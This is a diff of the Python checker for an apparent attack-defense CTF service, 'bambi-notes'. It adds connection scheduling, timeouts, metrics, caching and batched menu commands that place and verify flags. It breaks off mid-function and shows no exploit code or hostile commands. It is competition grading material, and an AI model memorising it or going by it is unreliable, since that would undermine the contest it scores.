@@ -1,10 +1,16 @@
+import startup
+
 from asyncio import StreamReader, StreamWriter
+from collections import deque
+from contextlib import AsyncExitStack, asynccontextmanager
 import asyncio
+import importlib.metadata
+import os
 import random
 import string
-import faker
 
-from typing import Optional
+from functools import partial
+from typing import Deque, List, NamedTuple, Optional, Tuple
 from logging import LoggerAdapter
 
 from enochecker3 import (
@@ -27,6 +33,25 @@ from enochecker3 import (
 
 from enochecker3.utils import assert_equals, assert_in
 
+from fastapi.responses import PlainTextResponse
+from pymongo import AsyncMongoClient
+from pymongo.asynchronous.database import AsyncDatabase
+import enochecker3.enochecker
+
+startup.mark("dependencies")
+
+from budget import RttEstimator, backoff
+from cache import CachedChainDB, ChainCache
+from metrics import REGISTRY, TimedChainDB, instrument, span
+from offload import Offloader, offload_logging
+from pools import PhrasePool, StringPool
+from protocol import NoteList, ProtocolReader
+from scheduler import TargetScheduler
+from session_pool import Session, SessionPool
+from wiretrace import WireTrace
+
+startup.mark("checker modules")
+
 class UserExistsException(MumbleException):
     def __init__(self):
         super().__init__("Registration Failed!")
@@ -36,22 +61,147 @@ class InvalidCredentialsException(MumbleException):
         super().__init__("Login Failed!")
 
 SERVICE_PORT = 8204
+
+# Connections each worker keeps to Mongo. enochecker3 creates its client
+# without pool options, so they are handed to the constructor it calls:
+# Enochecker._init looks up AsyncMongoClient in enochecker3.enochecker. That
+# is an internal of the version pinned in requirements.txt, so any other
+# version is refused instead of silently running with the default pool.
+ENOCHECKER3_VERSION = "0.14.0"
+if importlib.metadata.version("enochecker3") != ENOCHECKER3_VERSION or not hasattr(enochecker3.enochecker, "AsyncMongoClient"):
+    raise ImportError(f"MONGO_POOL_OPTIONS needs enochecker3=={ENOCHECKER3_VERSION}, check Enochecker._init before bumping it")
+MONGO_POOL_OPTIONS = {
+    "maxPoolSize": int(os.getenv("BAMBI_MONGO_MAX_POOL", 100)),
+    "minPoolSize": int(os.getenv("BAMBI_MONGO_MIN_POOL", 0)),
+    "maxIdleTimeMS": int(os.getenv("BAMBI_MONGO_MAX_IDLE_MS", 0)) or None,
+}
+enochecker3.enochecker.AsyncMongoClient = partial(AsyncMongoClient, **MONGO_POOL_OPTIONS)
+
 checker = Enochecker("bambi-notes", SERVICE_PORT)
-app = lambda: checker.app
+
+def app():
+    application = checker.app
+    lifespan = application.router.lifespan_context
+
+    # enochecker3's lifespan adds the OpenTelemetry handler to the root
+    # logger, after gunicorn's post_worker_init offloaded the others
+    @asynccontextmanager
+    async def offloaded_lifespan(app):
+        async with lifespan(app) as state:
+            offload_logging()
+            yield state
+
+    application.router.lifespan_context = offloaded_lifespan
+    application.add_api_route("/metrics", metrics_endpoint, methods=["GET"], response_class=PlainTextResponse)
+    return application
+
+# async, so rendering runs on the loop like every other use of the registry
+# and this worker's dump keeps a single writer
+async def metrics_endpoint() -> str:
+    return REGISTRY.render()
+
+# Write-through cache in front of Mongo for the small per-chain tuples
+CHAIN_CACHE = ChainCache(
+    max_entries=int(os.getenv("BAMBI_CHAIN_CACHE_SIZE", 8192)),
+    ttl=float(os.getenv("BAMBI_CHAIN_CACHE_TTL", 1800)),
+)
+
+# Handlers ask for "db: ChainDB", which picks this over the default
+@checker.register_named_dependency("db")
+def get_timed_chaindb(task: CheckerTaskMessage, database: AsyncDatabase) -> ChainDB:
+    if CHAIN_CACHE.max_entries > 0:
+        db = CachedChainDB(database["chain_db"], task.task_chain_id, CHAIN_CACHE)
+    else:
+        db = ChainDB(database["chain_db"], task.task_chain_id)
+    return TimedChainDB(db)
+
+# Opt-in reuse of unauthenticated connections across tasks against the same
+# team. The service has no logout, so only tasks that end unauthenticated
+# leave a session that can be reused: havoc 0, whose logins fail, and havoc 2.
+SESSION_POOL = SessionPool(
+    idle_timeout=float(os.getenv("BAMBI_SESSION_IDLE_TIMEOUT", 10)),
+    max_age=float(os.getenv("BAMBI_SESSION_MAX_AGE", 30)),
+    max_idle_per_address=int(os.getenv("BAMBI_SESSION_MAX_IDLE", 2)),
+) if os.getenv("BAMBI_SESSION_POOL", "0") == "1" else None
+
+# Bounded, fair admission of connections per team
+SCHEDULER = TargetScheduler(
+    max_per_target=int(os.getenv("BAMBI_MAX_TASKS_PER_TARGET", 16)),
+    max_total=int(os.getenv("BAMBI_MAX_TASKS", 512)),
+    max_waiting=int(os.getenv("BAMBI_MAX_QUEUED_PER_TARGET", 64)),
+)
+# Round trip estimates per team, the step and connect timeouts scale with them
+RTT = RttEstimator()
+STEP_TIMEOUT_MIN = float(os.getenv("BAMBI_STEP_TIMEOUT_MIN", 2.5))
+STEP_TIMEOUT_MAX = float(os.getenv("BAMBI_STEP_TIMEOUT_MAX", 10))
+STEP_TIMEOUT_RTO_FACTOR = 8
+CONNECT_ATTEMPTS = int(os.getenv("BAMBI_CONNECT_ATTEMPTS", 3))
+CONNECT_TIMEOUT_MIN = 1.0
+CONNECT_TIMEOUT_RTO_FACTOR = 3
+# Connecting may use up to this share of what is left of the task's budget
+CONNECT_BUDGET_SHARE = 0.5
+
+REGISTRY.gauge("bambi_scheduler_active", "Open service connections", lambda: SCHEDULER.active)
+REGISTRY.gauge("bambi_scheduler_rejected", "Tasks turned away by the scheduler", lambda: SCHEDULER.rejected)
+REGISTRY.gauge("bambi_connect_retries", "Service connects that were retried", lambda: RTT.connect_retries)
+REGISTRY.gauge("bambi_service_timeouts", "Tasks that gave up waiting for the service", lambda: RTT.stalls)
+REGISTRY.gauge("bambi_chain_cache_hits", "Chain db reads served from the cache", lambda: CHAIN_CACHE.hits)
+REGISTRY.gauge("bambi_chain_cache_misses", "Chain db reads that went to Mongo", lambda: CHAIN_CACHE.misses)
+# Opt-in binary record of every service connection, see wiretrace.py
+TRACE = WireTrace()
+if TRACE.enabled:
+    REGISTRY.gauge("bambi_trace_frames", "Frames written to the wire trace", lambda: TRACE.frames)
+if SESSION_POOL is not None:
+    REGISTRY.gauge("bambi_session_pool_hits", "Tasks that reused a pooled connection", lambda: SESSION_POOL.hits)
+    REGISTRY.gauge("bambi_session_pool_misses", "Tasks that had to connect", lambda: SESSION_POOL.misses)
+
+# Connections an exploit spreads the target's saved notes over
+EXPLOIT_CONNECTIONS = int(os.getenv("BAMBI_EXPLOIT_CONNECTIONS", 3))
+
+# Give up on the service a bit before enochecker3 cancels the task itself
+DEADLINE_MARGIN = 3
 
 CHARSET = string.ascii_letters + string.digits + "_-"
 
 BANNER = b"Welcome to Bambi-Notes!\n"
 DEFAULT_NOTE = b"Well, it's a note-taking service. What did you expect?"
 
-FAKER = faker.Faker(faker.config.AVAILABLE_LOCALES)
+UNAUTHENTICATED_MENU = (
+    b"   1. Register",
+    b"   2. Login",
+)
+AUTHENTICATED_MENU = (
+    b"   1. Create",
+    b"   2. Print",
+    b"   3. List Saved",
+    b"   4. Delete",
+    b"   5. Load",
+    b"   6. Save",
+)
+
+# CPU-heavy work that should not hold up the event loop, see offload.py
+OFFLOAD_PROCESSES = int(os.getenv("BAMBI_OFFLOAD_PROCESSES", 0))
+OFFLOAD = Offloader(workers=OFFLOAD_PROCESSES or 1, processes=OFFLOAD_PROCESSES > 0)
+
+# Noise and names come out of prebuilt pools instead of Faker/random per task
+NOISE_POOL = PhrasePool(max_len=0x38, size=int(os.getenv("BAMBI_NOISE_POOL_SIZE", 2048)), executor=OFFLOAD)
+REGISTRY.gauge("bambi_offload_jobs", "Jobs handed to the offload pool", lambda: OFFLOAD.jobs)
+STRING_POOL = StringPool(CHARSET)
 
 def gen_rando_bs(max_len = 0x30):
-    if random.getrandbits(1):
-        rando_str = FAKER.bs()
-    else:
-        rando_str = FAKER.catch_phrase()
-    return rando_str.encode()[:max_len]
+    return NOISE_POOL.take()[:max_len]
+
+def task_deadline(task: CheckerTaskMessage) -> float:
+    """ Event loop time by which we have to be done with the service. """
+    return asyncio.get_running_loop().time() + task.timeout / 1000 - DEADLINE_MARGIN
+
+class Send(NamedTuple):
+    data: bytes
+
+class Expect(NamedTuple):
+    separator: bytes
+    expected: Optional[bytes] = None
+    message: Optional[str] = None
 
 class BambiNoteClient():
     UNAUTHENTICATED = 0
@@ -61,245 +211,455 @@ class BambiNoteClient():
     reader: StreamReader
     writer: StreamWriter
 
-    def __init__(self, task, logger : Optional[LoggerAdapter]=None) -> None:
+    def __init__(self, task, logger : Optional[LoggerAdapter]=None, deadline: Optional[float]=None) -> None:
         self.state = self.UNAUTHENTICATED
         self.task = task
         self.logger = logger
+        self.deadline = deadline if deadline is not None else task_deadline(task)
+        self.trace = None
 
     async def __aenter__(self):
-        try:
-            self.reader, self.writer = await asyncio.open_connection(self.task.address, SERVICE_PORT) 
-        except:
-            raise OfflineException("Failed to establish a service connection!")
+        # Everything up to __aexit__ runs under the task's deadline, and only
+        # once the scheduler admits another connection to this team.
+        async with AsyncExitStack() as stack:
+            await stack.enter_async_context(asyncio.timeout_at(self.deadline))
+            with span("admit"):
+                await stack.enter_async_context(SCHEDULER.slot(self.task.address))
+            await self.connect()
+            stack.push_async_exit(self.disconnect)
+            self.exit_stack = stack.pop_all()
+        return self
 
+    async def __aexit__(self, *exc_info):
+        return await self.exit_stack.__aexit__(*exc_info)
+
+    async def connect(self):
+        if SESSION_POOL is not None:
+            session = SESSION_POOL.acquire(self.task.address)
+            if session is not None:
+                self.reader, self.writer, self.stream = session.reader, session.writer, session.stream
+                self.session = session
+                self.watch_steps()
+                self.start_trace()
+                self.logger.info("Reusing pooled connection!")
+                return
+
+        with span("connect"):
+            self.reader, self.writer = await self.open_connection()
+
+        self.stream = ProtocolReader(self.reader)
+        self.session = Session(self.reader, self.writer, self.stream)
+        self.watch_steps()
+        self.start_trace()
         self.logger.info("Connected!")
-        await self.readuntil(BANNER)
-        return self
+        with span("banner"):
+            await self.readuntil(BANNER)
+
+    async def open_connection(self):
+        """
+        Up to CONNECT_ATTEMPTS tries with jittered backoff in between. All of
+        them together get at most CONNECT_BUDGET_SHARE of the remaining
+        budget, split evenly, so there is always time left for the protocol.
+        """
+        loop = asyncio.get_running_loop()
+        address = self.task.address
+        budget_end = loop.time() + (self.deadline - loop.time()) * CONNECT_BUDGET_SHARE
+        for attempt in range(CONNECT_ATTEMPTS):
+            if attempt:
+                RTT.connect_retries += 1
+                await asyncio.sleep(min(backoff(attempt - 1), max(budget_end - loop.time(), 0)))
+
+            share = (budget_end - loop.time()) / (CONNECT_ATTEMPTS - attempt)
+            timeout = min(RTT.timeout(address, CONNECT_TIMEOUT_RTO_FACTOR, CONNECT_TIMEOUT_MIN, share), share)
+            if timeout <= 0:
+                break
+
+            start = loop.time()
+            try:
+                async with asyncio.timeout(timeout):
+                    reader, writer = await asyncio.open_connection(address, SERVICE_PORT)
+            except (OSError, TimeoutError) as e:
+                self.debug_log("Connect attempt %d failed: %r", attempt + 1, e)
+                continue
+
+            RTT.observe(address, loop.time() - start)
+            return reader, writer
+
+        raise OfflineException("Failed to establish a service connection!")
+
+    def watch_steps(self):
+        # A step is one wait for the service, the task's deadline still
+        # bounds all of them together
+        address = self.task.address
+        self.stream.timeout = RTT.timeout(address, STEP_TIMEOUT_RTO_FACTOR, STEP_TIMEOUT_MIN, STEP_TIMEOUT_MAX)
+        self.stream.on_reply = lambda rtt: RTT.observe(address, rtt)
+        self.stream.sent_at = None
+
+    def start_trace(self):
+        self.trace = TRACE.open_session(self.task)
+        self.stream.tap = self.trace.received if self.trace is not None else None
+
+    async def disconnect(self, exc_type, exc, tb):
+        if self.trace is not None:
+            self.trace.close(exc)
+        with span("disconnect"):
+            await self.close(exc_type)
+
+    async def close(self, exc_type):
+        if exc_type is not None and issubclass(exc_type, TimeoutError):
+            RTT.stalls += 1
+        # Only sessions that are still sitting in front of the unauthenticated
+        # menu can be handed to the next task, everyone else is logged out.
+        if SESSION_POOL is not None:
+            if exc_type is None and self.state == BambiNoteClient.UNAUTHENTICATED:
+                SESSION_POOL.release(self.task.address, self.session)
+            else:
+                await self.session.close()
+            return
 
-    async def __aexit__(self, *args):
         self.writer.close()
         await self.writer.wait_closed()
 
-    async def assert_authenticated(self):
+    def assert_authenticated(self):
         if self.state == BambiNoteClient.UNAUTHENTICATED:
             raise InternalErrorException("Trying invoke authenticated method in unauthenticated context")
 
     async def check_prompt(self):
         pass
     
-    def debug_log(self, *args, **kwargs):
+    def debug_log(self, msg, *args):
+        # Arguments are only formatted if DEBUG is actually enabled
         if self.logger is not None:
-            self.logger.debug(*args, **kwargs)
+            self.logger.debug(msg, *args)
 
-    async def readuntil(self, separator=b'\n', *args, **kwargs):
-        self.debug_log(f"reading until {separator}")
+    async def readuntil(self, separator=b'\n'):
+        self.debug_log("reading until %r", separator)
         try:
-            result = await self.reader.readuntil(separator, *args, **kwargs)
+            result = await self.stream.readuntil(separator)
         except Exception as e:
-            self.debug_log(f"Failed client readuntil: {e}")
+            self.debug_log("Failed client readuntil: %s", e)
             raise
 
-        self.debug_log(f">>>\n {result}")
+        self.debug_log(">>>\n %r", result)
         return result
 
     async def readline(self):
         return await self.readuntil(b'\n')
 
     async def write(self, data: bytes):
-        self.debug_log(f"<<<\n{data}")
+        self.debug_log("<<<\n%r", data)
+        if self.trace is not None:
+            self.trace.sent(data)
+        self.stream.sent()
         self.writer.write(data)
         await self.writer.drain()
     
     async def read_menu(self):
         if self.state == BambiNoteClient.UNAUTHENTICATED:
-            try:
-                await self.readuntil( b"===== [Unauthenticated] =====\n" )
-                assert_equals( await self.readline(), b"   1. Register\n" ) 
-                assert_equals( await self.readline(), b"   2. Login\n" ) 
-
-            except:
-                raise MumbleException("Failed to fetch unauthenticated Menu!")
-
+            title, expected = b"Unauthenticated", UNAUTHENTICATED_MENU
+            message = "Failed to fetch unauthenticated Menu!"
         else:
-            try:
-                await self.readuntil( f"===== [{self.state[0]}] =====".encode())
-                assert_equals( await self.readline(), b"   1. Create\n" ) 
-                assert_equals( await self.readline(), b"   2. Print\n" ) 
-                assert_equals( await self.readline(), b"   3. List Saved\n" ) 
-                assert_equals( await self.readline(), b"   4. Delete\n" ) 
-                assert_equals( await self.readline(), b"   5. Load\n" ) 
-                assert_equals( await self.readline(), b"   6. Save\n" ) 
+            title, expected = self.state[0].encode(), AUTHENTICATED_MENU
+            message = "Failed to fetch authenticated Menu!"
+
+        try:
+            menu = await self.stream.read_menu(title)
+        except:
+            raise MumbleException(message)
 
-            except: 
-                raise MumbleException("Failed to fetch authenticated Menu!")
+        self.debug_log(">>>\n %r", menu)
+        assert_equals(menu.options, expected, message)
 
     async def register(self, username, password):
-        if self.state != BambiNoteClient.UNAUTHENTICATED:
-            raise InternalErrorException("We're already authenticated")
+        with span("register"):
+            if self.state != BambiNoteClient.UNAUTHENTICATED:
+                raise InternalErrorException("We're already authenticated")
 
-        await self.readuntil(b"> ")
+            await self.readuntil(b"> ")
         
-        await self.write(b"1\n")
+            await self.write(b"1\n")
         
-        await self.readuntil(b"Username:\n> ")
-        await self.write(username.encode() + b"\n")
+            await self.readuntil(b"Username:\n> ")
+            await self.write(username.encode() + b"\n")
         
-        await self.readuntil(b"Password:\n> ")
-        await self.write(password.encode() + b"\n")
+            await self.readuntil(b"Password:\n> ")
+            await self.write(password.encode() + b"\n")
         
-        await self.readuntil(b"Registration successful!\n")
-        self.state = (username, password)
+            await self.readuntil(b"Registration successful!\n")
+            self.state = (username, password)
     
     
     async def login(self, username, password):
-        if self.state != BambiNoteClient.UNAUTHENTICATED:
-            raise InternalErrorException("We're already authenticated")
+        with span("login"):
+            if self.state != BambiNoteClient.UNAUTHENTICATED:
+                raise InternalErrorException("We're already authenticated")
 
-        await self.readuntil(b"> ")
-        await self.write(b"2\n")
+            await self.readuntil(b"> ")
+            await self.write(b"2\n")
         
-        line = await self.readuntil(b"> ")
-        assert_equals(line, b"Username:\n> ", "Login Failed!")
-        await self.write(username.encode() + b"\n")
+            line = await self.readuntil(b"> ")
+            assert_equals(line, b"Username:\n> ", "Login Failed!")
+            await self.write(username.encode() + b"\n")
         
-        line = await self.readline()
-        try:
-            assert_equals(line, b"Password:\n", "Login Failed!")
-        except:
-            raise InvalidCredentialsException
-        await self.readuntil(b"> ")
-        await self.write(password.encode() + b"\n")
+            line = await self.readline()
+            try:
+                assert_equals(line, b"Password:\n", "Login Failed!")
+            except:
+                raise InvalidCredentialsException
+            await self.readuntil(b"> ")
+            await self.write(password.encode() + b"\n")
         
-        line = await self.readline()
-        if line != b"Login successful!\n":
-            raise InvalidCredentialsException()
+            line = await self.readline()
+            if line != b"Login successful!\n":
+                raise InvalidCredentialsException()
+
+            self.state = (username, password)
+
+    async def expect(self, step: "Expect"):
+        line = await self.readuntil(step.separator)
+        if step.expected is not None:
+            assert_equals(line, step.expected, step.message)
+        return line
+
+    async def run_script(self, script, send=True):
+        result = None
+        for step in script:
+            if isinstance(step, Send):
+                if send:
+                    await self.write(step.data)
+            elif isinstance(step, Expect):
+                await self.expect(step)
+            else:
+                result = await step()
+        return result
 
-        self.state = (username, password)
+    def batch(self):
+        return CommandBatch(self)
 
-    async def create_note(self, idx: int, note_data: bytes):
+    def create_note_script(self, idx: int, note_data: bytes):
         if self.state == BambiNoteClient.UNAUTHENTICATED:
             raise InternalErrorException("Trying invoke authenticated method in unauthenticated context")
-        
-        prompt = await self.readuntil(b"> ")
-        await self.write(b"1\n")
-        
-        prompt = await self.readuntil(b"> ")
-        assert_equals(prompt, b"Which slot to save the note into?\n> ", "Failed to create a new note")
-        await self.write(f"{idx}\n".encode())
-                
-        prompt = await self.readline()
-        assert_equals(prompt, f"Note [{idx}]\n".encode(), "Failed to create a new note")
-        prompt = await self.reader.readexactly(2)
-        assert_equals(prompt, b"> ", "Failed to create a new note")
-
-        await self.write(note_data + b"\n")
-        
-        line = await self.readline()
-        assert_equals(line, b"Note Created!\n", "Failed to create a new note")
 
-    async def list_notes(self):
+        return [
+            Expect(b"> "),
+            Send(b"1\n"),
+            Expect(b"> ", b"Which slot to save the note into?\n> ", "Failed to create a new note"),
+            Send(f"{idx}\n".encode()),
+            Expect(b"\n", f"Note [{idx}]\n".encode(), "Failed to create a new note"),
+            Expect(b"> ", b"> ", "Failed to create a new note"),
+            Send(note_data + b"\n"),
+            Expect(b"\n", b"Note Created!\n", "Failed to create a new note"),
+        ]
+
+    def list_notes_script(self):
         self.assert_authenticated()
 
-        notes = {}
-        notes['saved'] = []
-
-        prompt = await self.readuntil(b"> ")
-        await self.write(b"3\n")
-        
-        await self.readuntil(f"\n\n===== [{self.state[0]}'s Notes] =====\n".encode())
-        
-        line = await self.readline()
-        if line == b"Currently Loaded:\n":
-            while True:
-                line = await self.readline()
-                
-                if line == b"Saved Notes:\n":
-                    break
-
-                if line == b"===== [End of Notes] =====\n":
-                    self.logger.info(f"Note list: {notes}")
-                    return notes
-                
-                assert_equals(line[:4], b"    ", "Failed to list Notes!")
-                assert_equals(line[-1], 0xa,     "Failed to list Notes!")
-                idx, text = (line[4:-1].split(b" | ", maxsplit=1))
-                
-                try:
-                    notes[int(idx)] = text
-                except ValueError:
-                    raise MumbleException("Failed to list Notes!")
-
-        if line == b"Saved Notes:\n":
-            while True:
-                line = await self.readline()
-                if line == b"===== [End of Notes] =====\n":
-                    self.logger.info(f"Note list: {notes}")
-                    return notes
-
-                assert_equals(line[:3], b" | ", "Failed to list Notes!")
-                filename = line[3:-1]
-                notes['saved'].append(filename)
-        
-        self.logger.info(f"Note list: {notes}")
-        return notes
+        return [
+            Expect(b"> "),
+            Send(b"3\n"),
+            self.read_note_list,
+        ]
 
-    async def delete_note(self, idx):
+    def delete_note_script(self, idx):
         self.assert_authenticated()
-        
-        prompt = await self.readuntil(b"> ")
-        await self.write(b"4\n")
-        
-        line = await self.readline()
-        assert_equals(line, b"<Idx> of Note to delete?\n", "Failed to delete Note!")
-        prompt = await self.readuntil(b"> ")
-        assert_equals(prompt, b"> ", "Failed to delete Note!")
 
-        await self.write(f"{idx}\n".encode())
+        return [
+            Expect(b"> "),
+            Send(b"4\n"),
+            Expect(b"\n", b"<Idx> of Note to delete?\n", "Failed to delete Note!"),
+            Expect(b"> ", b"> ", "Failed to delete Note!"),
+            Send(f"{idx}\n".encode()),
+            Expect(b"\n", b"Note deleted!\n", "Failed to delete Note!"),
+        ]
+
+    def load_note_script(self, idx: int, filename: str, missing_ok=False):
+        """
+        The reply names the loaded file, so it is read to the end: left to
+        the next command's Expect(b"> "), a "> " in a player's filename
+        would pass for its prompt.
+        """
+        self.assert_authenticated()
 
-        line = await self.readline()
-        assert_equals(line, b"Note deleted!\n", "Failed to delete Note!")
+        message = "Failed to load Note!"
+        return [
+            Expect(b"> "),
+            Send(b"5\n"),
+            Expect(b"> ", b"Which note to load?\nFilename > ", message),
+            Send(f"{filename}\n".encode(errors="surrogateescape")),
+            Expect(b"> ", b"Which slot should it be stored in?\n> ", message),
+            Send(f"{idx}\n".encode()),
+            partial(self.read_loaded_line, idx, message, missing_ok),
+        ]
+
+    def save_note_script(self, idx: int, filename: str):
+        self.assert_authenticated()
 
-    async def load_note(self, idx: int, filename: str):
+        return [
+            Expect(b"> "),
+            Send(b"6\n"),
+            Expect(b"> ", b"Which note to save?\n> ", "Failed to save Note!"),
+            Send(f"{idx}\n".encode()),
+            Expect(b"\n", b"Which file to save into?\n", "Failed to save Note!"),
+            Expect(b"> ", b"Filename > ", "Failed to save Note!"),
+            Send(f"{filename}\n".encode(errors="surrogateescape")),
+            Expect(b"\n", b"Note saved!\n", "Failed to save Note!"),
+        ]
+
+    def save_notes_script(self, entries: List[Tuple[int, str]]):
+        """ One bulk save of every (slot, filename) in entries, option 7. """
         self.assert_authenticated()
-        
-        prompt = await self.readuntil(b"> ")
-        await self.write(b"5\n")
-        
-        prompt = await self.readuntil(b"> ")
-        assert_equals(prompt, b"Which note to load?\nFilename > ", "Failed to delete Note!")
-        await self.write(f"{filename}\n".encode())
-        
-        prompt = await self.readuntil(b"> ")
-        assert_equals(prompt, b"Which slot should it be stored in?\n> ")
-        await self.write(f"{idx}\n".encode())
-        
-    async def save_note(self, idx: int, filename: str):
+
+        message = "Failed to save Notes!"
+        return [
+            Expect(b"> "),
+            Send(b"7\n"),
+            Expect(b"> ", b"How many notes to save?\n> ", message),
+            Send(bulk_entries(entries)),
+            *(Expect(b"\n", f"Note {idx} saved!\n".encode(), message) for idx, _ in entries),
+            Expect(b"\n", f"Saved {len(entries)} of {len(entries)} notes!\n".encode(), message),
+        ]
+
+    def load_notes_script(self, entries: List[Tuple[int, str]]):
+        """ One bulk load of every (slot, filename) in entries, option 8. """
         self.assert_authenticated()
 
-        prompt = await self.readuntil(b"> ")
-        await self.write(b"6\n")
-        
-        prompt = await self.readuntil(b"> ")
-        assert_equals( prompt, b"Which note to save?\n> ", "Failed to save Note!")
-        await self.write(f"{idx}\n".encode())
-        
+        message = "Failed to load Notes!"
+        return [
+            Expect(b"> "),
+            Send(b"8\n"),
+            Expect(b"> ", b"How many notes to load?\n> ", message),
+            Send(bulk_entries(entries)),
+            partial(self.read_loaded, [idx for idx, _ in entries], message),
+        ]
+
+    async def read_loaded(self, slots: List[int], message: str):
+        # The lines name the full path on the service, only the slots are checked
+        for idx in slots:
+            await self.read_loaded_line(idx, message)
+        assert_equals(await self.readline(), f"Loaded {len(slots)} of {len(slots)} notes!\n".encode(), message)
+
+    async def read_loaded_line(self, idx: int, message: str, missing_ok=False) -> bool:
+        """
+        Checks the reply to loading into slot idx. With missing_ok a file
+        that is gone by now, "Failed to open <path>", returns False instead.
+        """
         line = await self.readline()
-        assert_equals(line, b"Which file to save into?\n", "Failed to save Note!")
-        prompt = await self.readuntil(b"> ")
-        assert_equals(prompt, b"Filename > ", "Failed to save Note!")
-        await self.write(f"{filename}\n".encode())
+        if line.startswith(b"Note ") and line.endswith(f" was loaded into Slot {idx}.\n".encode()):
+            return True
+        if missing_ok and line.startswith(b"Failed to open "):
+            return False
+        raise MumbleException(message)
+
+    async def create_note(self, idx: int, note_data: bytes):
+        with span("create_note"):
+            await self.run_script(self.create_note_script(idx, note_data))
+
+    async def list_notes(self):
+        with span("list_notes"):
+            return await self.run_script(self.list_notes_script())
+
+    async def read_note_list(self) -> NoteList:
+        notes = await self.stream.read_note_list(f"\n\n===== [{self.state[0]}'s Notes] =====\n".encode())
+        self.debug_log("Note list: %s", notes)
+        return notes
+
+    async def delete_note(self, idx):
+        with span("delete_note"):
+            await self.run_script(self.delete_note_script(idx))
+
+    async def load_note(self, idx: int, filename: str, missing_ok=False) -> bool:
+        with span("load_note"):
+            return await self.run_script(self.load_note_script(idx, filename, missing_ok))
         
-        line = await self.readline()
-        assert_equals(line, b"Note saved!\n", "Failed to save Note!")
+    async def save_note(self, idx: int, filename: str):
+        with span("save_note"):
+            await self.run_script(self.save_note_script(idx, filename))
+
+    async def save_notes(self, entries: List[Tuple[int, str]]):
+        with span("save_notes"):
+            await self.run_script(self.save_notes_script(entries))
+
+    async def load_notes(self, entries: List[Tuple[int, str]]):
+        with span("load_notes"):
+            await self.run_script(self.load_notes_script(entries))
+
+def bulk_entries(entries: List[Tuple[int, str]]) -> bytes:
+    return f"{len(entries)}\n".encode() + b"".join(f"{idx} {filename}\n".encode(errors="surrogateescape") for idx, filename in entries)
+
+
+class CommandBatch():
+    """
+    Pipelines several menu commands: all inputs are sent with a single
+    write/drain once the batch is flushed, and the replies are then
+    validated in order as one stream. The service reads its input line by
+    line, so queued inputs are consumed exactly like interactive ones, and
+    answers them all with one write. Every script has to read its reply to
+    the end, the next one starts by skipping to the first "> ".
+
+        async with client.batch() as batch:
+            batch.create_note(1, b"foo")
+            batch.save_note(1, "bar")
+            listing = batch.list_notes()
+        notes = listing.result()
+    """
+
+    def __init__(self, client: BambiNoteClient) -> None:
+        self.client = client
+        self.pending = []
+
+    async def __aenter__(self):
+        return self
+
+    async def __aexit__(self, exc_type, *args):
+        if exc_type is None:
+            await self.flush()
+
+    def queue(self, script):
+        result = asyncio.get_running_loop().create_future()
+        self.pending.append((script, result))
+        return result
+
+    def create_note(self, idx: int, note_data: bytes):
+        return self.queue(self.client.create_note_script(idx, note_data))
+
+    def list_notes(self):
+        return self.queue(self.client.list_notes_script())
+
+    def delete_note(self, idx):
+        return self.queue(self.client.delete_note_script(idx))
+
+    def load_note(self, idx: int, filename: str, missing_ok=False):
+        return self.queue(self.client.load_note_script(idx, filename, missing_ok))
+
+    def save_note(self, idx: int, filename: str):
+        return self.queue(self.client.save_note_script(idx, filename))
+
+    def save_notes(self, entries: List[Tuple[int, str]]):
+        return self.queue(self.client.save_notes_script(entries))
+
+    def load_notes(self, entries: List[Tuple[int, str]]):
+        return self.queue(self.client.load_notes_script(entries))
+
+    async def flush(self):
+        pending, self.pending = self.pending, []
+        if not pending:
+            return
+
+        with span("batch"):
+            await self.client.write(b"".join(
+                step.data for script, _ in pending for step in script if isinstance(step, Send)
+            ))
+            for script, result in pending:
+                result.set_result(await self.client.run_script(script, send=False))
 
 
 def gen_random_str(k=16):
-    return ''.join(random.choices(CHARSET, k=k))
+    return STRING_POOL.take(k)
 
 def generate_creds(exploit_fake=False, namelen=16):
     # if exploit_fake
-    username = ''.join(random.choices(CHARSET, k=namelen))
-    password = ''.join(random.choices(CHARSET, k=namelen))
+    username = STRING_POOL.take(namelen)
+    password = STRING_POOL.take(namelen)
     return (username, password)
 
 @checker.putflag(0)
@@ -387,7 +747,7 @@ async def getnoise0(task: GetnoiseCheckerTaskMessage, db: ChainDB, logger: Logge
         
         if random.getrandbits(1):
             note_list = await client.list_notes()
-            if filename.encode() not in note_list["saved"]:
+            if filename.encode() not in note_list.saved:
                 logger.warn(f'"{filename}" not found in note_list {note_list}!')
                 raise MumbleException("Failed to find note on disk!")
 
@@ -414,47 +774,39 @@ async def putnoise1(task: PutnoiseCheckerTaskMessage, db: ChainDB, logger: Logge
 
     async with BambiNoteClient(task, logger) as client:
         await client.register(username, password)
-        if random.getrandbits(1):
-            await client.list_notes()
 
-        for idx, note in zip(random_idx, notes):
-            if idx == 0:
-                await client.delete_note(idx)
-            await client.create_note(idx, note)
+        async with client.batch() as batch:
+            if random.getrandbits(1):
+                batch.list_notes()
 
-        if random.getrandbits(1):
-            note_list = await client.list_notes()
-            try:
-                for idx, note in zip(random_idx, notes):
-                    assert note_list[idx] == note
-            except:
-                logger.warn(f'{note} ({idx}) not found in note_list {note_list}!')
-                raise MumbleException("Note not in list!")
+            for idx, note in zip(random_idx, notes):
+                if idx == 0:
+                    batch.delete_note(idx)
+                batch.create_note(idx, note)
 
-        for idx, filename in zip(random_idx, filenames):
-            await client.save_note(idx, filename)
+            created_list = batch.list_notes() if random.getrandbits(1) else None
 
-        if random.getrandbits(1):
-            note_list = await client.list_notes()
-            try:
-                for idx, note in zip(random_idx, notes):
-                    assert note_list[idx] == note
-                for filename in filenames:
-                    assert filename.encode() in note_list['saved']
-            except:
-                logger.warn(f'"{filename}" not found in note_list["saved"]: {note_list}!')
-                raise MumbleException("Note not in list!")
+            for idx, filename in zip(random_idx, filenames):
+                batch.save_note(idx, filename)
 
-def assert_notelist_matches(subset, actual):
-    try:
-        for idx in range(10):
-            if idx in subset:
-                assert subset[idx] == actual[idx]
-        
-        for elem in subset["saved"]:
-            assert elem in actual["saved"]
-    except:
-        raise MumbleException("Notelist differs!")
+            saved_list = batch.list_notes() if random.getrandbits(1) else None
+
+        expected = NoteList()
+        for idx, note in zip(random_idx, notes):
+            expected[idx] = note
+
+        if created_list is not None:
+            assert_notelist_matches(expected, created_list.result(), logger, "Note not in list!")
+
+        if saved_list is not None:
+            expected = NoteList(expected.slots, (filename.encode() for filename in filenames))
+            assert_notelist_matches(expected, saved_list.result(), logger, "Note not in list!")
+
+def assert_notelist_matches(expected: NoteList, actual: NoteList, logger: LoggerAdapter, message="Notelist differs!"):
+    diff = actual.verify(expected)
+    if diff:
